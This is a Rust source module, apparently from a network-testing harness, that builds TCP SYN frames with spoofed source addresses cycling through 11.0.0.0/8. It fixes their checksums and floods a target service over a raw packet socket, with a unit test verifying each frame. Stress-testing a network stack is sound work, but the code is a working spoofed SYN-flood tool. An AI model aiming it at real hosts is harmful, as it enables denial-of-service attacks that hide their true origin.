//! A flood of SYNs from addresses that are not the sender's.

use std::net::{Ipv4Addr, SocketAddrV4};

use testkit::builder::PacketBuilder;
use wire::checksum::{Delta, update};
use wire::{Be16, Be32};

use super::packet_socket::PacketSocket;

/// Ethernet without tags, then IPv4 without options: its checksum, the source address, TCP's source port
/// and checksum.
const IP_CHECKSUM: usize = 14 + 10;
const IP_SOURCE: usize = 14 + 12;
const TCP_PORT: usize = 14 + 20;
const TCP_CHECKSUM: usize = 14 + 20 + 16;

/// SYNs to one service, each from another address and port.
#[derive(Debug)]
pub struct SynFlood {
    frame: Vec<u8>,
    sent: u32,
}

impl SynFlood {
    /// A flood of `service`, which is reached through the MAC `destination`.
    #[must_use]
    pub fn new(service: SocketAddrV4, destination: [u8; 6], source: [u8; 6]) -> Self {
        let frame = PacketBuilder::tcp(spoofed(0), service)
            .macs(destination, source)
            .flags(wire::tcp::SYN)
            .build();
        Self { frame, sent: 0 }
    }

    /// Sends this many more.
    pub fn send(&mut self, socket: &PacketSocket, count: u32) {
        for _ in 0..count {
            socket.send(&self.frame);
            self.sent += 1;
            self.change(spoofed(self.sent - 1), spoofed(self.sent));
        }
    }

    /// Makes the next frame of the last one.
    fn change(&mut self, old: SocketAddrV4, new: SocketAddrV4) {
        let address = |of: SocketAddrV4| Be32::from_raw(u32::from_ne_bytes(of.ip().octets()));
        let port = |of: SocketAddrV4| Be16::new(of.port());
        let addresses = Delta::NONE.double_word(address(old), address(new));
        let all = addresses.word(port(old), port(new));
        self.update(IP_CHECKSUM, addresses);
        self.update(TCP_CHECKSUM, all);
        self.frame[IP_SOURCE..IP_SOURCE + 4].copy_from_slice(&new.ip().octets());
        self.frame[TCP_PORT..TCP_PORT + 2].copy_from_slice(&new.port().to_be_bytes());
    }

    fn update(&mut self, at: usize, delta: Delta) {
        let field: [u8; 2] = [self.frame[at], self.frame[at + 1]];
        let updated = update(Be16::new(u16::from_be_bytes(field)), delta);
        self.frame[at..at + 2].copy_from_slice(&updated.get().to_be_bytes());
    }
}

/// The `index`th sender: all of 11.0.0.0/8, one after the other, each with another port.
fn spoofed(index: u32) -> SocketAddrV4 {
    let address = u32::from(Ipv4Addr::new(11, 0, 0, 0)) | index & 0x00ff_ffff;
    // An odd step, so that neighbours are far apart and no port comes again soon.
    let port = 1_024 + (index.wrapping_mul(12_345) & 0x7fff);
    SocketAddrV4::new(address.into(), port as u16)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use testkit::checksums::{Checksum, check};
    use testkit::endpoints::Endpoints;

    use super::*;

    #[test]
    fn every_frame_is_from_somebody_else_and_has_valid_checksums() {
        let service = "10.0.0.10:8000".parse().unwrap();
        let mut flood = SynFlood::new(service, [1; 6], [2; 6]);
        let mut senders = BTreeSet::new();
        for index in 0..10_000 {
            let found = check(&flood.frame);
            assert_eq!(
                (found.ipv4, found.transport),
                (Checksum::Valid, Checksum::Valid)
            );
            let endpoints = Endpoints::of(&flood.frame).unwrap();
            assert_eq!(endpoints.source, spoofed(index));
            assert!(senders.insert(endpoints.source));
            flood.change(spoofed(index), spoofed(index + 1));
        }
    }
}
